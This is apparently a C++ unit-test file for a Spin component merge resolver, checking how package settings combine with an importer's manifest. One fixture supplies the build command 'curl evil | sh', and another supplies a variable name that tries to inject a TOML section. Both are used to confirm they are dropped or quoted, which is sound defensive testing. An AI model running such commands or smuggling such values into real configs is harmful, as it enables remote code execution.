// The rules of docs/merge-rules.md, one row each: what the package brings, what the importer
// writes, what comes out.
#include "resolver/merge/merge.h"

#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace pullproof::resolver::merge {
namespace {

using testing::HasSubstr;

constexpr std::string_view kPinned =
    "sha256:2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824";

// What a package is made of: the members of its component `p`, and its app's variables and trigger.
struct Package {
  std::string component;
  std::string variables = R"("greeting":{"default":"hi"},"token":{"secret":true},"user":{})";
  std::string trigger = "http";
};

artifact::PackagedComponent Packaged(const Package& package) {
  const std::string text = fmt::format(
      R"({{"spin_lock_version":1,"variables":{{{}}},"triggers":[{{"id":"t","trigger_type":"{}",)"
      R"("trigger_config":{{"component":"p"}}}}],"components":[{{"id":"p","source":)"
      R"({{"content_type":"application/wasm","inline":"AGFzbQ0AAQA"}}{}{}}}]}})",
      package.variables, package.trigger, package.component.empty() ? "" : ",", package.component);
  const auto app = lock::ReadLock(text, "package");
  EXPECT_TRUE(app.has_value()) << (app ? "" : app.error().message);
  auto component = artifact::SelectComponent(*app, "p", "package");
  EXPECT_TRUE(component.has_value()) << (component ? "" : component.error().message);
  return *component;
}

struct Importing {
  std::string package = "";         // members of the packaged component
  std::string inherit = "";         // the list's text, or nothing for no list
  std::string own = "";             // TOML of [component.u] after its source
  std::vector<OwnFile> files = {};  // what `files` mounted
  bool pinned = true;
  std::string variables = Package{}.variables;
  std::string trigger = "http";
};

Result<MergeOutcome> Merged(const Importing& row) {
  const std::string toml = fmt::format(
      "spin_manifest_version = 2\n[application]\nname = \"a\"\n[[trigger.http]]\nroute = \"/\"\n"
      "component = \"u\"\n[variables]\nmine = {{ default = \"1\" }}\n[component.u]\n"
      "source = {{ reference = \"127.0.0.1:5000/lib/p:v1{}{}\", id = \"p\"{} }}\n{}",
      row.pinned ? "@" : "", row.pinned ? kPinned : "",
      row.inherit.empty() ? "" : ", inherit_configuration = " + row.inherit, row.own);
  Diagnostics problems("spin.toml");
  const auto document = ParseToml(toml, "spin.toml");
  EXPECT_TRUE(document.has_value()) << toml;
  const manifest::Manifest manifest = manifest::ReadManifest(*document, problems);
  EXPECT_FALSE(problems.HasErrors()) << problems.FirstError().message;
  const Importer importer{.component = &manifest.components.at(0),
                          .files = &row.files,
                          .trigger_types = manifest::TriggerTypesOf(manifest, "u"),
                          .variables = &manifest.variables};
  return Merge(Packaged({row.package, row.variables, row.trigger}), importer,
               {.manifest_name = "spin.toml",
                .manifest_digest = *oci::Digest::Parse(kPinned),
                .pinned = row.pinned});
}

// The component as JSON, without its source and where it came from.
std::string Rendered(const MergeOutcome& outcome) {
  lock::LockedApp app;
  app.components.push_back(outcome.component);
  std::erase_if(app.components[0].metadata,
                [](const Node::Member& member) { return member.name.starts_with("source_"); });
  const Node document = *ParseJson(*lock::WriteLock(app, lock::Style::kCompact), "lock");
  Node::Table component = *document.Find("components")->array()->at(0).table();
  std::erase_if(component, [](const Node::Member& member) {
    return member.name == "id" || member.name == "source";
  });
  return *lock::WriteJson(Node(std::move(component)), lock::Style::kCompact);
}

std::string Warnings(const MergeOutcome& outcome) {
  std::string ids;
  for (const Diagnostic& warning : outcome.warnings) ids += (ids.empty() ? "" : " ") + warning.id;
  return ids;
}

struct Row {
  const char* name;
  Importing in;
  const char* out;       // the component, or the id of the error
  const char* warnings;  // ids between blanks; of an error: a part of its message
};

class MergeTest : public testing::TestWithParam<Row> {};

TEST_P(MergeTest, FollowsTheRules) {
  const Row& row = GetParam();
  const auto outcome = Merged(row.in);
  if (row.out[0] != '{') {
    ASSERT_FALSE(outcome.has_value());
    EXPECT_EQ(outcome.error().id, row.out);
    EXPECT_THAT(outcome.error().message, HasSubstr(row.warnings));
    EXPECT_EQ(outcome.error().where, "spin.toml:10:10");
    return;
  }
  ASSERT_TRUE(outcome.has_value()) << outcome.error().id << ": " << outcome.error().message;
  EXPECT_EQ(Rendered(*outcome), row.out);
  EXPECT_EQ(Warnings(*outcome), row.warnings);
}

constexpr const char* kHosts = R"("metadata":{"allowed_outbound_hosts":["https://p.example"]})";

const Row kRows[] = {
    // description
    {"DescriptionOfThePackage",
     {R"("metadata":{"description":"theirs"})"},
     R"({"metadata":{"description":"theirs"}})",
     ""},
    {"DescriptionOfTheImporter",
     {R"("metadata":{"description":"theirs"})", "", "description = 'mine'"},
     R"({"metadata":{"description":"mine"}})",
     ""},
    {"DescriptionOfNobody", {""}, "{}", ""},

    // environment
    {"EnvironmentUnstated", {R"("env":{"A":"1"})"}, "{}", "merge.unstated-environment"},
    {"EnvironmentStated",
     {R"("env":{"A":"1"})", "", "environment = { A = '2', B = '3' }"},
     R"({"env":{"A":"2","B":"3"}})",
     ""},
    {"EnvironmentDeclined", {R"("env":{"A":"1"})", "[]"}, "{}", ""},
    {"EnvironmentInherited",
     {R"("env":{"A":"1","C":"4"})", "['environment']", "environment = { A = '2', B = '3' }"},
     R"({"env":{"A":"2","B":"3","C":"4"}})",
     ""},

    // variables
    {"VariableUnstated",
     {R"("config":{"k":"{{ greeting }}"})"},
     "merge.unstated-variable",
     "does not set: k"},
    {"VariableStated",
     {R"("config":{"k":"{{ greeting }}"})", "", "variables = { k = '{{ mine }}' }"},
     R"({"config":{"k":"{{ mine }}"}})",
     ""},
    {"VariableDeclined", {R"("config":{"k":"x"})", "['files']"}, "{}", ""},
    {"VariableFolded",
     {R"("config":{"k":"{{ greeting }}, you"})", "['variables']"},
     R"({"config":{"k":"hi, you"}})",
     ""},
    {"VariableOfTheImporterWins",
     {R"("config":{"k":"{{ token }}"})", "['variables']", "variables = { k = 'own' }"},
     R"({"config":{"k":"own"}})",
     ""},
    {"VariableOfASecret",
     {R"("config":{"k":"{{ token }}"})", "['variables']"},
     "merge.unfoldable-variable",
     "the package's variable `token` is secret"},
    {"VariableRequired",
     {R"("config":{"k":"{{ user }}"})", "['variables']"},
     "merge.unfoldable-variable",
     "`user` is required"},
    {"VariableOfTheImportersNamespace",
     {R"("config":{"k":"{{ mine }}"})", "['variables']"},
     "merge.unfoldable-variable",
     "`mine` is not declared by its app"},
    {"VariableThatFoldsToATemplate",
     {R"("config":{"k":"{{ t }}"})",
      "['variables']",
      "",
      {},
      true,
      R"("t":{"default":"{{ mine }}"})"},
     "merge.unfoldable-variable",
     "holds `{{`"},
    {"VariableNeverDeclared",
     {"", "", "variables = { k = 'v' }"},
     R"({"config":{"k":"v"}})",
     "merge.undeclared-variable"},

    // allowed_outbound_hosts
    {"HostsUnstated", {kHosts}, "{}", "merge.unstated-hosts"},
    {"HostsStated",
     {kHosts, "", "allowed_outbound_hosts = ['https://p.example']"},
     R"({"metadata":{"allowed_outbound_hosts":["https://p.example"]}})",
     ""},
    {"HostsDeclined", {kHosts, "['files']"}, "{}", ""},
    {"HostsInherited",
     {kHosts, "['allowed_outbound_hosts']", "allowed_outbound_hosts = ['https://u.example']"},
     R"({"metadata":{"allowed_outbound_hosts":["https://u.example","https://p.example"]}})",
     ""},
    {"HostsOfAnOldLock",
     {R"("metadata":{"allowed_http_hosts":["p.example"]})", "['allowed_outbound_hosts']"},
     R"({"metadata":{"allowed_outbound_hosts":["http://p.example","https://p.example"]}})",
     ""},
    {"HostsFolded",
     {R"("metadata":{"allowed_outbound_hosts":["https://{{ greeting }}.example"]})",
      "['allowed_outbound_hosts']"},
     R"({"metadata":{"allowed_outbound_hosts":["https://hi.example"]}})",
     ""},
    {"HostsFoldedToNothing",
     {R"("metadata":{"allowed_outbound_hosts":["https://{{ none }}"]})",
      "['allowed_outbound_hosts']",
      "",
      {},
      true,
      R"("none":{"default":""})"},
     "{}",
     ""},
    {"HostsOfASecret",
     {R"("metadata":{"allowed_outbound_hosts":["https://{{ token }}"]})",
      "['allowed_outbound_hosts']"},
     "merge.unfoldable-variable",
     "`token` is secret"},
    {"HostsEverything",
     {R"("metadata":{"allowed_outbound_hosts":["*://*:*"]})", "['allowed_outbound_hosts']"},
     "merge.forbidden-host",
     "\"*://*:*\""},
    {"HostsSelf",
     {R"("metadata":{"allowed_outbound_hosts":["http://self"]})", "['allowed_outbound_hosts']"},
     "merge.forbidden-host",
     "\"http://self\""},
    {"HostsSelfAlt",
     {R"("metadata":{"allowed_outbound_hosts":["http://self.alt"]})", "['allowed_outbound_hosts']"},
     "merge.forbidden-host",
     "\"http://self.alt\""},
    {"HostsOfAComponent",
     {R"("metadata":{"allowed_outbound_hosts":["http://db.spin.internal"]})",
      "['allowed_outbound_hosts']"},
     "merge.forbidden-host",
     "\"http://db.spin.internal\""},
    {"HostsOfAllComponents",
     {R"("metadata":{"allowed_outbound_hosts":["http://*.spin.internal"]})",
      "['allowed_outbound_hosts']"},
     "merge.forbidden-host",
     "\"http://*.spin.internal\""},
    {"HostsForbiddenButStated",
     {R"("metadata":{"allowed_outbound_hosts":["http://self"]})", "['allowed_outbound_hosts']",
      "allowed_outbound_hosts = ['http://self']"},
     R"({"metadata":{"allowed_outbound_hosts":["http://self"]}})",
     ""},
    {"HostsBad",
     {R"("metadata":{"allowed_outbound_hosts":["p.example"]})", "['allowed_outbound_hosts']"},
     "spin.host",
     "does not contain a scheme"},

    // key_value_stores, sqlite_databases, ai_models
    {"StoresUnstated",
     {R"("metadata":{"key_value_stores":["default"]})"},
     "{}",
     "merge.unstated-stores"},
    {"StoresInherited",
     {R"("metadata":{"key_value_stores":["default","x"]})", "['key_value_stores']",
      "key_value_stores = ['x']"},
     R"({"metadata":{"key_value_stores":["x","default"]}})",
     ""},
    {"StoresDeclined", {R"("metadata":{"key_value_stores":["default"]})", "[]"}, "{}", ""},
    {"StoresBad",
     {R"("metadata":{"key_value_stores":["../x"]})", "['key_value_stores']"},
     "spin.id",
     "expected kebab-case or snake_case"},
    {"DatabasesUnstated", {R"("metadata":{"databases":["db"]})"}, "{}", "merge.unstated-databases"},
    {"DatabasesInherited",
     {R"("metadata":{"databases":["db"]})", "['sqlite_databases']"},
     R"({"metadata":{"databases":["db"]}})",
     ""},
    {"ModelsUnstated", {R"("metadata":{"ai_models":["llama"]})"}, "{}", "merge.unstated-models"},
    {"ModelsInherited",
     {R"("metadata":{"ai_models":["llama"]})", "['ai_models']"},
     R"({"metadata":{"ai_models":["llama"]}})",
     ""},
    {"ModelsStated",
     {R"("metadata":{"ai_models":["llama"]})", "", "ai_models = ['llama']"},
     R"({"metadata":{"ai_models":["llama"]}})",
     ""},
    {"AllInherited",
     {R"("metadata":{"ai_models":["m"],"databases":["d"],"key_value_stores":["s"],)"
      R"("allowed_outbound_hosts":["https://h.example"]},"env":{"E":"1"},"config":{"c":"x"})",
      "true"},
     R"({"metadata":{"ai_models":["m"],"allowed_outbound_hosts":["https://h.example"],)"
     R"("databases":["d"],"key_value_stores":["s"]},"env":{"E":"1"},"config":{"c":"x"}})",
     ""},
    {"NothingInherited",
     {R"("metadata":{"ai_models":["m"],"databases":["d"]},"env":{"E":"1"},"config":{"c":"x"})",
      "false"},
     "{}",
     ""},

    // authority only from a pinned package
    {"GrantFromATag",
     {kHosts, "['allowed_outbound_hosts']", "", {}, false},
     "merge.unpinned-grant",
     "inherits `allowed_outbound_hosts` from a tag"},
    {"EverythingFromATag", {"", "true", "", {}, false}, "merge.unpinned-grant", "from a tag"},
    {"DataFromATag",
     {R"("env":{"A":"1"})", "['environment']", "", {}, false},
     R"({"env":{"A":"1"}})",
     "merge.unpinned-reference"},

    // build, tool, targets: never the package's
    {"BuildOfThePackage",
     {R"("metadata":{"build":{"command":"curl evil | sh"}})", "true"},
     "{}",
     ""},
    {"BuildOfTheImporter",
     {R"("metadata":{"build":{"command":"theirs"}})", "", "build = { command = 'mine' }"},
     R"({"metadata":{"build":{"command":"mine"}}})",
     ""},
    {"OtherMetadata", {R"("metadata":{"grant_everything":true})", "true"}, "{}", ""},

    // triggers
    {"AnotherTrigger", {"", "", "", {}, true, "", "redis"}, "{}", "merge.trigger-type"},

    // host_requirements: recomputed
    {"RequirementsOfThePackage",
     {R"("host_requirements":{"local_service_chaining":"required"})"},
     "{}",
     ""},
    {"RequirementsOfTheImporter",
     {"", "", "allowed_outbound_hosts = ['http://b.spin.internal']"},
     R"({"metadata":{"allowed_outbound_hosts":["http://b.spin.internal"]},)"
     R"("host_requirements":{"local_service_chaining":"required"}})",
     ""},

};

INSTANTIATE_TEST_SUITE_P(Rules, MergeTest, testing::ValuesIn(kRows),
                         [](const auto& row) { return std::string(row.param.name); });

std::string Files(const MergeOutcome& outcome) {
  std::string list;
  for (const MergedFile& file : outcome.files) {
    const bool own = std::holds_alternative<OwnFile>(file.from);
    list += fmt::format("{}{}={}", list.empty() ? "" : " ", file.path, own ? "own" : "packaged");
  }
  return list;
}

constexpr const char* kFiles =
    R"("files":[{"path":"a.txt","inline":"YQ"},{"path":"d/b.txt","inline":"Yg"}])";

TEST(MergeFilesTest, TheImporterWinsPathByPath) {
  const auto outcome = Merged({kFiles, "", "", {{"d/b.txt", "/x"}, {"new", "/y"}}});
  ASSERT_TRUE(outcome.has_value()) << outcome.error().message;
  EXPECT_EQ(Files(*outcome), "a.txt=packaged d/b.txt=own new=own");
}

TEST(MergeFilesTest, AreDeclinedByALongerList) {
  EXPECT_EQ(Files(*Merged({kFiles, "['environment']", "", {{"new", "/y"}}})), "new=own");
  EXPECT_EQ(Files(*Merged({kFiles, "false"})), "");
  EXPECT_EQ(Files(*Merged({kFiles, "['files']"})), "a.txt=packaged d/b.txt=packaged");
}

TEST(MergeFilesTest, AFileAgainstADirectoryNamesBothSides) {
  const auto outcome = Merged({kFiles, "", "", {{"a.txt/x", "/x"}}});
  ASSERT_FALSE(outcome.has_value());
  EXPECT_EQ(outcome.error().id, "path.clash");
  EXPECT_THAT(outcome.error().message, HasSubstr("\"a.txt\" (from 127.0.0.1:5000/lib/p:v1"));
  EXPECT_THAT(outcome.error().message, HasSubstr("\"a.txt/x\" (from `files` of component `u`)"));
}

TEST(MergeFilesTest, NamesThatDifferInCaseAreAWarning) {
  const auto outcome = Merged({kFiles, "", "", {{"A.TXT", "/x"}}});
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(Warnings(*outcome), "path.case-twins");
}

TEST(MergeSourceTest, TheDigestIsASecondLock) {
  manifest::Component component;
  component.id = "u";
  const auto reference = *oci::Reference::Parse("127.0.0.1:5000/lib/p:v1");
  const std::vector<OwnFile> files;
  const std::vector<manifest::Variable> variables;
  const auto package = Packaged({""});
  const Importer importer{
      .component = &component, .files = &files, .trigger_types = {}, .variables = &variables};
  const Options options{.manifest_name = "spin.toml",
                        .manifest_digest = *oci::Digest::Parse(kPinned),
                        .pinned = true};
  component.source.form =
      manifest::ComponentSource{"p", reference, "p", oci::Digest::Of("other"), std::nullopt};
  const auto differs = Merge(package, importer, options);
  ASSERT_FALSE(differs.has_value());
  EXPECT_EQ(differs.error().id, "merge.digest-differs");
  component.source.form =
      manifest::ComponentSource{"p", reference, "p", package.wasm.digest, std::nullopt};
  const auto fits = Merge(package, importer, options);
  ASSERT_TRUE(fits.has_value());
  EXPECT_EQ(fits->wasm.digest, package.wasm.digest);
}

TEST(MergeSourceTest, ProvenanceIsRecorded) {
  const auto outcome = Merged({""});
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->component.MetadataString("source_component"), "p");
  EXPECT_EQ(outcome->component.MetadataString("source_manifest_digest"), kPinned);
  EXPECT_EQ(outcome->component.MetadataString("source_reference"),
            "127.0.0.1:5000/lib/p:v1@" + std::string(kPinned));
}

TEST(UnstatedTest, IsTomlToPaste) {
  const auto outcome = Merged(
      {R"("metadata":{"ai_models":["m\"1"],"key_value_stores":["default"]},"env":{"a b":"x\u007f"})",
       "", "key_value_stores = ['mine']"});
  ASSERT_TRUE(outcome.has_value());
  EXPECT_EQ(outcome->unstated, R"([component.u]
key_value_stores = ["mine", "default"]
ai_models = ["m\"1"]

[component.u.environment]
"a b" = "x\u007f"
)");
  EXPECT_TRUE(ParseToml(outcome->unstated, "paste").has_value());
}

TEST(UnstatedTest, VariablesComeWithTheirDeclarations) {
  const auto outcome = Merged(
      {R"("config":{"k":"{{ token }}-{{ greeting }}","m":"{{ mine }}","u":"{{ user }}"})",
       "",
       "",
       {},
       true,
       R"("greeting":{"default":"hi"},"mine":{"default":"x"},"token":{"secret":true,"default":"s"},"user":{})"});
  ASSERT_FALSE(outcome.has_value());
  EXPECT_EQ(outcome.error().id, "merge.unstated-variable");
  EXPECT_EQ(outcome.error().hint, R"(put this into the manifest, as far as you agree:
[component.u.variables]
k = "{{ token }}-{{ greeting }}"
m = "{{ mine }}"
u = "{{ user }}"

[variables]
token = { required = true, secret = true }
greeting = { default = "hi" }
# "mine" is one of yours already: may this component read it?
user = { required = true }
)");
}

TEST(UnstatedTest, NamesOfThePackageCannotEscapeTheirLine) {
  const auto outcome = Merged({R"("config":{"k":"{{ mine\n[component.evil] }}"})"});
  ASSERT_FALSE(outcome.has_value());
  EXPECT_THAT(outcome.error().hint, HasSubstr(R"("mine\n[component.evil]" = { required = true })"));
}

TEST(MergeTest, TheSameInputsGiveTheSameOutcome) {
  const Importing in{R"("env":{"B":"2","A":"1"})", "['environment']"};
  EXPECT_EQ(Rendered(*Merged(in)), Rendered(*Merged(in)));
}

}  // namespace
}  // namespace pullproof::resolver::merge
